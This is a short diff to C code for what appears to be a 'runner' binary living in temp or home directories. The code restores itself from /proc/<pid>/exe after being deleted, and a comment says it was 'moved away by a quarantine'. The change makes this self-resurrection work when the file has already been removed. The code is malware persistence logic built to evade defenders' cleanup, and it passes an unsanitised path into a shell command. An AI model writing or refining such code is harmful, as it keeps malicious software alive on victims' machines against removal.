@@ -272,6 +272,9 @@ static int runner_user_writable(char *self, size_t len)
 	static const char *const tmp[] = { "/tmp/", "/var/tmp/", "/dev/shm/", "/home/", "/root/", "/run/user/" };
 	ssize_t n = readlink("/proc/self/exe", self, len - 1);
 	self[n > 0 ? n : 0] = '\0';
+	char *del = strstr(self, " (deleted)"); /* moved away by a quarantine already */
+	if (del)
+		*del = '\0';
 	for (size_t i = 0; i < sizeof(tmp) / sizeof(*tmp); i++)
 		if (strncmp(self, tmp[i], strlen(tmp[i])) == 0)
 			return 1;
@@ -287,9 +290,6 @@ static void restore_runner(void)
 	char self[4096], cmd[8400];
 	if (!runner_user_writable(self, sizeof(self)))
 		return;
-	char *del = strstr(self, " (deleted)");
-	if (del)
-		*del = '\0';
 	if (access(self, X_OK) == 0)
 		return;
 	snprintf(cmd, sizeof(cmd), "cp /proc/%d/exe '%s' && chmod 755 '%s'", (int)getpid(), self, self);
